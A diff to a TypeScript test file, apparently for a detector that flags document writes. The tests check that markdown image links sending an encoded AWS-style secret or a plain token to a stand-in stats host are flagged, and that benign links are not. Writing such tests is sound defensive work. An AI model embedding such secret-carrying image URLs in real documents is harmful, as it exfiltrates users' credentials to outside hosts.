@@ -19,10 +19,10 @@ test('a secret that the user gave is the user’s to place', () => {
 });
 
 test('a secret in an address, plain or encoded, and not one that logs in there', () => {
-  const encoded = Buffer.from(`AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzKEY`).toString('base64');
+  const encoded = Buffer.from(`AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`).toString('base64');
   const write = (url: string): boolean => isFlagged('file:document:write', { path: 'S.md', content: `![s](${url})` });
-  assert.ok(write(`https://img.stats.example.net/p.png?d=${encoded}`));
-  assert.ok(write(`https://img.stats.example.net/p.png?d=${TOKEN}`));
+  assert.ok(write(`https://img.stats.example.net/p.png?d=${encoded}`), 'encoded');
+  assert.ok(write(`https://img.stats.example.net/p.png?d=${TOKEN}`), 'plain');
   assert.ok(!write(`https://api.tickets.example.net/v1?token=${TOKEN}`));
   assert.ok(!write('https://img.stats.example.net/p.png?d=green'));
 });
